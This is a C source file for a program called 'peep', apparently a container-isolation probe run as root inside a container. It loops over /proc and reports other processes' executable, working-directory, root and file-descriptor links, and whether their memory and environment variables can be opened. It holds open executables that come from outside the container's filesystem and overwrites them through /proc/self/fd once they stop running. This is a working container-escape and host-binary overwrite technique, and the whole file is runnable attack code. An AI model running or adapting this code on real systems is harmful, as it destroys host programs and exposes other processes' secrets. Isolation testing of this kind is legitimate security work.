/*
 * peep: look at every other process, without end, as the root of a box may who
 * waits for a visitor.  Prints, each once, where the links exe, cwd, root, fd/3
 * and up of /proc/N lead, and as "mem" the program whose memory could be opened,
 * which takes the same right as tracing it, as "environ" whose variables.  Programs that are not on the disk
 * that peep is on are held open, and overwritten as soon as nobody runs them.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/stat.h>

static char said[1 << 16];              /* what was printed: lines */
static struct held {                    /* programs that are held open */
    char link[PATH_MAX];
    struct stat file;
    int fd;
} held[16];
static int count;                       /* how many */

static void say(const char *what, const char *link) {
    char line[PATH_MAX + 16];
    snprintf(line, sizeof(line), "%s %s\n", what, link);
    if (!*link || strstr(said, line) ||
        strlen(said) + strlen(line) >= sizeof(said))
        return;
    strcat(said, line);
    fputs(line, stdout);
}

/* Where the link FILE of process N leads, or "" if we are not told. */
static const char *lead(const char *n, const char *file) {
    static char path[PATH_MAX], link[PATH_MAX];
    snprintf(path, sizeof(path), "/proc/%s/%s", n, file);
    ssize_t length = readlink(path, link, sizeof(link) - 1);
    link[length > 0 ? length : 0] = '\0';
    return link;
}

/* Hold the program of process N, unless it is the box's, or held already. */
static void hold(const char *n) {
    struct stat own;
    struct held *h = held + count;
    char path[PATH_MAX];
    snprintf(path, sizeof(path), "/proc/%s/exe", n);
    h->fd = count < 15 ? open(path, O_RDONLY | O_CLOEXEC) : -1;
    if (h->fd < 0)
        return;
    int known = stat("/proc/self/exe", &own) < 0 ||
                fstat(h->fd, &h->file) < 0 || own.st_dev == h->file.st_dev;
    for (struct held *other = held; other < h; other++)
        known = known || (other->file.st_dev == h->file.st_dev &&
                          other->file.st_ino == h->file.st_ino);
    if (known) {
        close(h->fd);
        return;
    }
    snprintf(path, sizeof(path), "fd/%d", h->fd);
    strcpy(h->link, lead("self", path));
    say("held", h->link);
    count++;
}

static void look_at(const char *n) {
    static const char *const links[] = { "exe", "cwd", "root" };
    char path[PATH_MAX];
    snprintf(path, sizeof(path), "/proc/%s/mem", n);
    int memory = open(path, O_RDONLY | O_CLOEXEC);
    if (memory >= 0) {                  /* before it can become another */
        say("mem", lead(n, "exe"));
        close(memory);
    }
    snprintf(path, sizeof(path), "/proc/%s/environ", n);
    int variables = open(path, O_RDONLY | O_CLOEXEC);
    if (variables >= 0 && read(variables, path, 1) == 1)
        say("environ", lead(n, "exe"));
    close(variables);
    for (int i = 0; i < 3; i++)
        say(links[i], lead(n, links[i]));
    hold(n);
    for (int fd = 3; fd < 64; fd++) {
        snprintf(path, sizeof(path), "fd/%d", fd);
        say("fd", lead(n, path));
    }
}

static void overwrite(const struct held *h) {
    static const char text[] = "overwritten\n";
    char path[32];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", h->fd);
    int fd = open(path, O_WRONLY | O_CLOEXEC);  /* not while somebody runs it */
    if (fd < 0)
        return;
    if (write(fd, text, sizeof(text) - 1) > 0)
        say("overwrote", h->link);
    close(fd);
}

int main(void) {
    struct dirent *entry;
    setvbuf(stdout, NULL, _IOLBF, 0);
    say("ready", "to look");
    for (;;) {
        DIR *processes = opendir("/proc");
        while (processes && (entry = readdir(processes)))
            if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid())
                look_at(entry->d_name);
        if (processes)
            closedir(processes);
        for (int i = 0; i < count; i++)
            overwrite(held + i);
    }
}
